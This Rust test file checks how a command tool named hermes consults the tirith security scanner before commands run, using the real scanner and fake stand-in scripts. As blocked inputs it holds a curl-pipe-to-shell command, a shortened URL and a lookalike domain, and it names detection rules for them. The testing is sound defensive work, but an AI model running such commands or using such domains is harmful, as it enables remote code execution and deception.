//! Stories: commands are shown to tirith before they run, to the real one, and to programs that only pretend.

mod release;

use std::fs;
use std::os::unix::fs::PermissionsExt as _;
use std::path::PathBuf;
use std::time::Duration;

use hermes_tests::hermes::{Hermes, Ran, run, text};
use hermes_tests::skip::skip;
use hermes_tests::terminal::Terminal;
use serde_json::Value;

const SIGN: &str = "❯ ";
/// A link that hides where it leads, which only tirith minds.
const SHORT: &str = "echo https://bit.ly/abc";
/// Not the letters that they seem to be.
const LOOKALIKE: &str = "echo https://g\u{43e}\u{43e}gle.com/";

/// The real one, where it is installed.
fn real() -> Option<PathBuf> {
    #[expect(clippy::disallowed_methods, reason = "xtask says here where it installed the program")]
    let prefix = PathBuf::from(std::env::var_os("HERMES_TEST_PREFIX").expect("run the tests with `cargo xtask test`"));
    let peers = prefix.parent().expect("in the target directory").join("peers/node_modules");
    let program = peers.join("@sheeki03/tirith-linux-x64/bin/tirith");
    if !program.exists() {
        skip("tirith", "`npm ci` as `.ci/run` has it enables them");
        return None;
    }
    Some(program)
}

/// A home where tirith is asked, with more settings below `security`.
fn asking(settings: &str) -> Hermes {
    let lines: String = settings.lines().map(|line| format!("  {line}\n")).collect();
    let config = format!("security:\n  tirith_enabled: true\n{lines}");
    Hermes::new().configured(&config).variable("HERMES_SECURITY_TIRITH_ENABLED", "true")
}

fn with_the_real_one(settings: &str) -> Option<Hermes> {
    Some(asking(&format!("tirith_path: {}\n{settings}", text(&real()?))))
}

/// A program that only pretends, and leaves a mark each time.
fn pretending(script: &str, settings: &str) -> Hermes {
    let hermes = asking(&format!("tirith_path: ./pretended\n{settings}"));
    let marks = hermes.path("marks");
    let script = format!("#!/bin/sh\necho asked >>{}\n{script}\n", text(&marks));
    fs::write(hermes.path("home/pretended"), script).expect("written");
    fs::set_permissions(hermes.path("home/pretended"), fs::Permissions::from_mode(0o755)).expect("set");
    hermes
}

fn check(hermes: &Hermes, command: &str) -> (Option<i32>, Value) {
    let ran = run(hermes.command(&["check", "--json", "--", command]));
    (ran.code, serde_json::from_str(&ran.out).unwrap_or_else(|error| panic!("{error}: {ran:?}")))
}

/// The rules that tirith itself found.
fn rules(report: &Value) -> Vec<&str> {
    let found = report["findings"].as_array().expect("findings").iter();
    let found = found.filter(|finding| finding["source"] == "scanner-tirith");
    found.map(|finding| finding["rule"].as_str().expect("a rule")).collect()
}

fn exec(hermes: &Hermes, command: &str) -> Ran {
    run(hermes.command(&["exec", "--", command]))
}

#[test]
fn the_real_one_allows_warns_and_blocks() {
    let Some(hermes) = with_the_real_one("") else { return };
    for harmless in ["ls -la", "git status", "echo \u{633}\u{644}\u{627}\u{645}"] {
        let (code, report) = check(&hermes, harmless);
        assert_eq!((code, rules(&report)), (Some(0), Vec::new()), "{report}");
    }
    let (code, warned) = check(&hermes, SHORT);
    assert_eq!((code, rules(&warned)), (Some(3), vec!["tirith-shortened-url"]));
    let (code, blocked) = check(&hermes, "curl http://x.example/a | sh");
    assert_eq!(code, Some(3));
    assert_eq!(rules(&blocked), ["tirith-plain-http-to-sink", "tirith-curl-pipe-shell"]);
    let (_, lookalike) = check(&hermes, LOOKALIKE);
    assert!(rules(&lookalike).contains(&"tirith-confusable-domain"), "{lookalike}");
    // It cannot be talked out of it, and an option is no option in a command.
    for text in [&format!("TIRITH=0 {SHORT}"), "--help https://bit.ly/abc"] {
        assert_eq!(check(&hermes, text).0, Some(3), "{text}");
    }
    // What it keeps, it keeps in the home.
    assert!(hermes.path("home/tirith/data").exists());
    assert!(fs::read_dir(hermes.path("user")).expect("a folder").next().is_none());
    assert_eq!(exec(&hermes, "echo fine").out, "fine\n");
    assert_eq!(exec(&hermes, SHORT).code, Some(126));
}

#[test]
fn a_person_sees_what_the_real_one_found_and_agrees_for_the_session_at_most() {
    let Some(hermes) = with_the_real_one("") else { return };
    let mut terminal = Terminal::open(&hermes, &[]);
    terminal.until(SIGN);
    terminal.line(SHORT);
    let seen = terminal.until("Choice [o/s/D]: ");
    for part in ["Shortened URL detected", "medium: URL uses shortener 'bit.ly'", "Safer: Expand the shortened URL"] {
        assert!(seen.contains(part), "{seen}");
    }
    // Always is not offered, and so is a no.
    terminal.line("a");
    terminal.until("denied");
    terminal.until(SIGN);
    terminal.line(SHORT);
    terminal.until("Choice [o/s/D]: ");
    terminal.line("o");
    terminal.until("\nhttps://bit.ly/abc\n");
    terminal.until(SIGN);
    terminal.line(SHORT);
    terminal.until("Choice [o/s/D]: ");
    terminal.line("s");
    terminal.until("\nhttps://bit.ly/abc\n");
    terminal.until(SIGN);
    terminal.line(SHORT);
    assert!(!terminal.until("\nhttps://bit.ly/abc\n").contains("Choice"));
    terminal.until(SIGN);
    // A yes to one rule is none to another.
    terminal.line(LOOKALIKE);
    terminal.until("Choice [o/s/D]: ");
    terminal.line("");
    terminal.until("denied");
    terminal.line("/quit");
    assert_eq!(terminal.end(), 0);
    // The session is over, and with it its yes. An entry of the allow-list is none for tirith.
    fs::write(hermes.path("home/config.yaml"), {
        let config = fs::read_to_string(hermes.path("home/config.yaml")).expect("read");
        format!("{config}command_allowlist: [tirith-shortened-url, echo, 'echo *']\n")
    })
    .expect("written");
    assert_eq!(exec(&hermes, SHORT).code, Some(126));
}

#[test]
fn what_gives_no_verdict_lets_pass_with_one_word_or_asks_as_configured() {
    let failing = [
        ("exit 2", "code 2 without a readable verdict"),
        ("echo garbage; exit 2", "code 2 without a readable verdict"),
        ("echo '{}'; exit 2", "code 2 without a readable verdict"),
        ("echo oops >&2; exit 101", "code 101, which is no verdict: oops"),
        ("kill -SEGV $$", "ended by a signal"),
        ("exec yes", "printed more than 1 MiB"),
        ("yes >&2", "complained at a length"),
        ("sleep 600 & sleep 600", "did not answer within 0.7 s"),
    ];
    for (script, why) in failing {
        let open = pretending(script, "tirith_timeout: 0.7");
        let mut terminal = Terminal::open(&open, &[]);
        terminal.until(SIGN);
        terminal.line("echo first");
        let seen = terminal.until("\nfirst\n");
        let seen = seen.replace("\n", " ");
        assert!(seen.contains("Scanner `scanner-tirith` failed and is passed over"), "{seen}");
        assert!(seen.contains(why), "{script}: {seen}");
        terminal.until(SIGN);
        terminal.line("echo second");
        assert!(!terminal.until("\nsecond\n").contains("passed over"), "{script}: once in a session");
        terminal.until(SIGN);
        terminal.line("/quit");
        assert_eq!(terminal.end(), 0);
        let log = fs::read_to_string(open.path("home/logs/hermes.log")).expect("a log");
        assert_eq!(log.matches("A scanner failed and is passed over").count(), 2, "{log}");

        let closed = pretending(script, "tirith_timeout: 0.7\ntirith_fail_open: false");
        let (code, report) = check(&closed, "echo first");
        assert_eq!(code, Some(3), "{report}");
        assert!(report.to_string().contains(why), "{report}");
        assert_eq!(exec(&closed, "echo first").code, Some(126));
    }
}

#[test]
fn a_verdict_needs_no_more_than_its_code() {
    let (code, report) = check(&pretending("printf 'x\\377'; exit 0", ""), "echo a");
    assert_eq!((code, rules(&report)), (Some(0), Vec::new()));
    let (code, report) = check(&pretending("exit 1", ""), "echo a");
    assert_eq!((code, rules(&report)), (Some(3), vec!["tirith-block"]));
    let answer = "printf '{\"findings\":[{\"rule_id\":\"odd\",\"title\":\"a\\377b\"}]}'; exit 2";
    let (code, report) = check(&pretending(answer, ""), "echo a");
    assert_eq!((code, rules(&report)), (Some(3), vec!["tirith-odd"]));
}

#[test]
fn nothing_of_one_that_hangs_is_left_behind() {
    let hermes = pretending("sleep 3131 & sleep 3131", "tirith_timeout: 0.3");
    let began = tokio::time::Instant::now();
    assert_eq!(exec(&hermes, "echo on").out, "on\n");
    assert!(began.elapsed() < Duration::from_secs(10));
    let left = fs::read_dir("/proc").expect("listed").flatten().filter(|process| {
        fs::read(process.path().join("cmdline")).is_ok_and(|line| line.starts_with(b"sleep\x003131"))
    });
    assert_eq!(left.count(), 0);
}

#[test]
fn one_that_crashes_again_and_again_is_not_asked_for_a_while() {
    let hermes = pretending("exit 99", "");
    for _ in 0..5 {
        assert_eq!(exec(&hermes, "echo on").out, "on\n");
    }
    // Across processes: three times, and then not.
    assert_eq!(hermes.marks().lines().count(), 3);
    let log = fs::read_to_string(hermes.path("home/logs/hermes.log")).expect("a log");
    assert!(log.contains("tirith failed 3 times in a row and is tried again in"), "{log}");
    for words in [&["doctor"][..], &["tirith", "status"]] {
        let said = run(hermes.command(words)).out;
        assert!(said.contains("tirith failed 3 times in a row"), "{said}");
    }
}

#[test]
fn one_that_is_named_and_not_there_is_a_clear_failure() {
    let hermes = asking("tirith_path: /nowhere/tirith\ntirith_fail_open: false");
    let (code, report) = check(&hermes, "echo a");
    assert_eq!(code, Some(3));
    let why = "`security.tirith_path` names `/nowhere/tirith`, which is not there";
    assert!(report.to_string().contains(why), "{report}");
}

#[test]
fn where_it_is_off_or_the_backend_is_a_boundary_it_is_not_asked() {
    let hermes = pretending("exit 1", "").variable("HERMES_SECURITY_TIRITH_ENABLED", "false");
    assert_eq!(check(&hermes, "echo a").0, Some(0));
    assert_eq!(hermes.marks(), "");
}

#[test]
fn it_holds_what_every_scanner_must_with_the_real_one() {
    let Some(hermes) = with_the_real_one("") else { return };
    let real = real().expect("there");
    let path = format!("{}:/usr/bin:/bin", text(real.parent().expect("a folder")));
    let hermes = hermes.variable("PATH", &path);
    let plugin = hermes.program().parent().expect("bin").join("../lib/hermes/plugins/scanner-tirith");
    let ran = run(hermes.command(&["plugins", "test", text(&plugin)]));
    assert!(ran.code == Some(0) && ran.out.contains(", 0 failed") && !ran.out.contains("skipped"), "{ran:?}");
}
